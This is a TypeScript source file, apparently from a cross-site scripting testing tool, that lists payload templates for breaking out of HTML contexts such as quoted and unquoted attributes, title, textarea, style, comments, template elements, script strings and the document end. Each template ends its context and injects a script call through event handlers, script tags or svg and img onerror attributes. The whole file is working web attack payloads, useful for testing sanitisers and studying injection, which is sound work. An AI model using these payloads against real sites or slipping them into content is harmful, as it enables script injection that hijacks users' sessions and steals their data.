import { inDoubleQuotes, inSingleQuotes, inText, inUnquoted, type PayloadClass } from "../PayloadClass.ts"

/** Texts that end what they stand in. */
export const breakouts: ReadonlyArray<PayloadClass> = [
  {
    name: "out of double quotes",
    place: inDoubleQuotes,
    effect: "script",
    payloads: [
      call => `" onmouseover="${call}`,
      call => `"onfocus=${call} tabindex=1 autofocus x="`,
      call => `"/onpointerover=${call}/x="`,
      call => `"><script>${call}</script>`,
      call => `"><img src=x: onerror=${call}>`,
      call => `">\n</p><svg onload=${call}>`,
      call => `x"\tstyle="position:fixed;inset:0"\tonclick="${call}`
    ]
  },
  {
    name: "out of single quotes",
    place: inSingleQuotes,
    effect: "script",
    payloads: [
      call => `' onmouseover='${call}`,
      call => `'onfocus=${call} tabindex=1 autofocus x='`,
      call => `'><svg/onload=${call}>`,
      call => `\\'><img src=x: onerror=${call}>`,
      call => `';${call};'><b onclick='${call}'>x</b>`
    ]
  },
  {
    name: "out of no quotes or backticks",
    place: inUnquoted,
    effect: "script",
    payloads: [
      call => `x onclick=${call}`,
      call => `x\tonpointerover=${call}`,
      call => `x\nonfocus=${call} tabindex=0`,
      call => `x\fonmouseover=${call}`,
      call => `x><img src=x: onerror=${call}`,
      call => `\`\` onmouseover=${call}`,
      call => `\`><script>${call}</script>`
    ]
  },
  {
    name: "out of a title",
    place: payload => `<title>${payload}</title>`,
    effect: "script",
    payloads: [call => `</title><script>${call}</script>`, call => `</TITLE\n><svg onload=${call}>`]
  },
  {
    name: "out of a text area",
    place: payload => `<textarea>${payload}</textarea>`,
    effect: "script",
    payloads: [
      call => `</textarea><script>${call}</script>`,
      call => `</tExTaReA/><img src=x: onerror=${call}>`
    ]
  },
  {
    name: "out of a style",
    place: payload => `<style>${payload}</style>`,
    effect: "script",
    payloads: [call => `</style><script>${call}</script>`, call => `/*</style x><svg onload=${call}>*/`]
  },
  {
    name: "out of a comment",
    place: payload => `<!-- ${payload} -->`,
    effect: "script",
    payloads: [
      call => `--><script>${call}</script><!--`,
      call => `--!><img src=x: onerror=${call}>`,
      call => `]]>--><svg onload=${call}>`
    ]
  },
  {
    name: "out of what is not rendered",
    place: payload => `<noscript><template>${payload}</template></noscript><template>${payload}</template>`,
    effect: "script",
    payloads: [
      call => `</template><script>${call}</script>`,
      call => `</template></noscript><img src=x: onerror=${call}>`
    ]
  },
  {
    name: "out of a script",
    place: payload => `<script>var a = "${payload}"</script>`,
    effect: "script",
    payloads: [
      call => `";${call};"`,
      call => `"+(${call})+"`,
      call => `\\";${call};//`,
      call => `\u2028";${call}//`,
      call => `</script><script>${call}</script>`
    ]
  },
  {
    name: "the end of everything",
    place: inText,
    effect: "script",
    payloads: [
      call => `</p></main></div></body></html><script>${call}</script>`,
      call => `<plaintext><script>${call}</script>`,
      call => `<![CDATA[><script>${call}</script>]]>`,
      call => `<?xml version="1.0"?><script>${call}</script>`,
      call => `<!doctype html [<!ENTITY x "y">]><svg onload=${call}>`,
      call => `<!--><img src=x: onerror=${call}>-->`
    ]
  }
]
